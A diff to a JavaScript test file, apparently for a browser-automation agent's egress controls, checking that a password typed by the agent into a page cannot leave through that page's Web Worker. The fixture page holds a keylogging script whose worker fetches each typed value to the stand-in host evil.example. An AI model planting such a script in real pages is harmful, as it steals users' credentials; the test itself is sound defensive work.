@@ -95,7 +95,8 @@ describe('the choke point', () => {
           html(
             res,
             `<title>Login</title><input type="password" aria-label="Password">
-            <script>const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => setTimeout(() => fetch(${JSON.stringify(url('evil.example', '/k?'))} + e.data), 300)"])));
+            <script>const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`onmessage = (e) => setTimeout(() => fetch(${JSON.stringify(url('evil.example', '/k?'))} + e.data).catch(() => postMessage('stopped')).then(() => postMessage('sent')), 300)`)}])));
+            w.onmessage = (e) => { document.title = 'Login, worker ' + e.data };
             document.querySelector('input').addEventListener('input', (e) => w.postMessage(e.target.value))</script>`,
           ),
       },
@@ -209,18 +210,29 @@ describe('the choke point', () => {
   });
 
   test('a secret typed into a page, handed to its worker, goes nowhere else', async () => {
-    const agentMcp = await agent();
-    await agentMcp.call('navigate_page', { url: url('login.example', '/login') });
-    const snapshot = await agentMcp.call('take_snapshot');
-    const typed = await agentMcp.call('fill', {
-      ref: refOf(snapshot.text, 'Password'),
-      secret: 'LOGIN_PASSWORD',
+    // A tabward of its own: a typed secret taints the session for good, and the next tests start without it.
+    const own = await startInProcess({ secrets: `LOGIN_PASSWORD@${url('login.example', '')}=${secret}\n` });
+    const agentMcp = await own.connect();
+    agentMcp.human.policy = (message) => ({
+      decision: /did not predict/.test(message) ? 'reject' : 'approve',
     });
-    assert.equal(typed.isError, false, typed.text);
-    await quietly(1_500);
-    assert.deepEqual(arrived('/k'), []);
-    // A tab holding a typed secret makes every other host ask: the next tests start without it.
-    await agentMcp.call('navigate_page', { url: 'about:blank' });
+    try {
+      await agentMcp.call('navigate_page', { url: url('login.example', '/login') });
+      const snapshot = await agentMcp.call('take_snapshot');
+      const typed = await agentMcp.call('fill', {
+        ref: refOf(snapshot.text, 'Password'),
+        secret: 'LOGIN_PASSWORD',
+      });
+      assert.equal(typed.isError, false, typed.text);
+      // The worker exists and tried: its fetch failed (stopped), it did not fail to start.
+      await waitFor('the worker tries to send', async () =>
+        /worker (stopped|sent)/.test((await agentMcp.call('take_snapshot')).text),
+      );
+      assert.deepEqual(arrived('/k'), []);
+    } finally {
+      await agentMcp.close();
+      await own.close();
+    }
   });
 
   test('approving a resize on a sensitive page lets no frame of its tab write there', async () => {
